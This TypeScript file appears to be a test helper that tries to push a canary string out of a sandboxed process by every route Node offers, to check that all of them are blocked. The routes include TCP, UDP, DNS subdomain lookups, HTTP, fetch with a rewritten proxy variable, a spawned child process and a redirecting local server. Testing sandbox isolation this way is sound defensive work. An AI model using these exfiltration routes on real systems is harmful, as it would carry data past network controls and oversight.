import { spawn } from "node:child_process";
import { createSocket } from "node:dgram";
import dns from "node:dns";
import http, { createServer } from "node:http";
import https from "node:https";
import net, { type AddressInfo } from "node:net";
import { leakTargets, type LeakOutcome } from "./leak-outcome";

const { ipv4, ipv6, domain, port, webPort } = leakTargets;
const webAddress = `${ipv4}:${webPort}`;
const waitMilliseconds = 2_000;

/**
 * Tries to carry a text out of this process by every road that Node has. Called where it must fail: in a worker behind the kernel's wall,
 * and in the core behind its tripwire. Takes about two seconds where packets get lost.
 */
export async function tryLeakRoads(canary: string): Promise<readonly LeakOutcome[]> {
  const host = `${canary}.${domain}`;
  return await Promise.all([
    tried("TCP", `${ipv4}:${port}`, async () => await connected(ipv4, canary)),
    tried("TCP over IPv6", `[${ipv6}]:${port}`, async () => await connected(ipv6, canary)),
    tried("UDP", `${ipv4}:${port}`, async () => await sent("udp4", ipv4, canary)),
    tried("UDP over IPv6", `[${ipv6}]:${port}`, async () => await sent("udp6", ipv6, canary)),
    tried("name lookup", host, async () => {
      await dns.promises.lookup(host);
      return "resolved";
    }),
    tried("DNS query", host, async () => await queried(host)),
    tried("HTTP", `http://${webAddress}`, async () => await requested(http, `http://${webAddress}/${canary}`)),
    tried("HTTPS", `https://${webAddress}`, async () => await requested(https, `https://${webAddress}/${canary}`)),
    tried("fetch", `http://${webAddress}`, async () => await fetched(`http://${webAddress}/${canary}`)),
    tried("fetch with a proxy set", `http://${webAddress}`, async () => await fetchedThroughProxy(canary)),
  ]);
}

/** A process that this one starts; behind a wall it must be behind it too. */
export async function tryChildProcess(canary: string): Promise<LeakOutcome> {
  const script = `const s=require("net").connect(${port},"${ipv4}");s.on("connect",()=>{s.end("${canary}");console.log("connected")});s.on("error",(e)=>console.log(e.code))`;
  return await tried("a child process", `${ipv4}:${port}`, async () => {
    const child = spawn(process.execPath, ["-e", script], { stdio: ["ignore", "pipe", "ignore"] });
    const timer = setTimeout(() => child.kill("SIGKILL"), waitMilliseconds);
    let said = "";
    child.stdout.setEncoding("utf8").on("data", (text: string) => (said += text));
    await new Promise((resolve, reject) => child.once("close", resolve).once("error", reject));
    clearTimeout(timer);
    return said.trim() === "" ? "timeout" : said.trim();
  });
}

/** A server on this machine that sends the caller elsewhere. */
export async function tryRedirect(canary: string): Promise<LeakOutcome> {
  const outside = `http://${webAddress}/${canary}`;
  const server = createServer((_, response) => response.writeHead(302, { location: outside }).end());
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  try {
    const { port: local } = server.address() as AddressInfo;
    return await tried("a redirect", outside, async () => await fetched(`http://127.0.0.1:${local}/`));
  } finally {
    server.closeAllConnections();
    server.close();
  }
}

async function tried(road: string, target: string, attempt: () => Promise<string>): Promise<LeakOutcome> {
  let timer: NodeJS.Timeout | undefined;
  const late = new Promise<string>((resolve) => (timer = setTimeout(() => resolve("timeout"), waitMilliseconds)));
  const outcome = await Promise.race([attempt().catch(codeOf), late]);
  clearTimeout(timer);
  return { road, target, outcome };
}

function connected(host: string, canary: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = net.connect({ host, port });
    socket.setTimeout(waitMilliseconds, () => socket.destroy());
    socket.once("error", reject);
    socket.once("connect", () => socket.end(canary, () => resolve("connected")));
  });
}

async function sent(type: "udp4" | "udp6", host: string, canary: string): Promise<string> {
  const socket = createSocket(type);
  try {
    return await new Promise((resolve, reject) => {
      socket.once("error", reject);
      socket.send(canary, port, host, (error) => (error === null ? resolve("sent") : reject(error)));
    });
  } finally {
    socket.close();
  }
}

async function queried(host: string): Promise<string> {
  const resolver = new dns.promises.Resolver({ timeout: waitMilliseconds / 2, tries: 1 });
  resolver.setServers([ipv4]);
  await resolver.resolve4(host);
  return "resolved";
}

function requested(protocol: typeof http | typeof https, url: string): Promise<string> {
  return new Promise((resolve, reject) => {
    protocol.get(url, { timeout: waitMilliseconds }, () => resolve("answered")).once("error", reject);
  });
}

async function fetched(url: string): Promise<string> {
  await fetch(url, { signal: AbortSignal.timeout(waitMilliseconds) });
  return "answered";
}

/** For the moment of the test; a Node that was started with NODE_USE_ENV_PROXY reads them. */
async function fetchedThroughProxy(canary: string): Promise<string> {
  const names = ["HTTP_PROXY", "http_proxy"] as const;
  const before = names.map((name) => process.env[name]);
  for (const name of names) process.env[name] = `http://${webAddress}`;
  try {
    return await fetched(`http://${canary}.${domain}/`);
  } finally {
    names.forEach((name, index) => {
      const value = before[index];
      if (value === undefined) Reflect.deleteProperty(process.env, name);
      else process.env[name] = value;
    });
  }
}

/** `fetch` hides the cause; several addresses that failed are told as the first. */
function codeOf(thrown: unknown): string {
  const error = thrown as { code?: unknown; cause?: unknown; errors?: readonly unknown[]; name?: string };
  if (error.name === "TimeoutError") return "timeout";
  if (typeof error.code === "string") return error.code;
  if (error.cause !== undefined) return codeOf(error.cause);
  const [first] = error.errors ?? [];
  return first === undefined ? String(thrown) : codeOf(first);
}
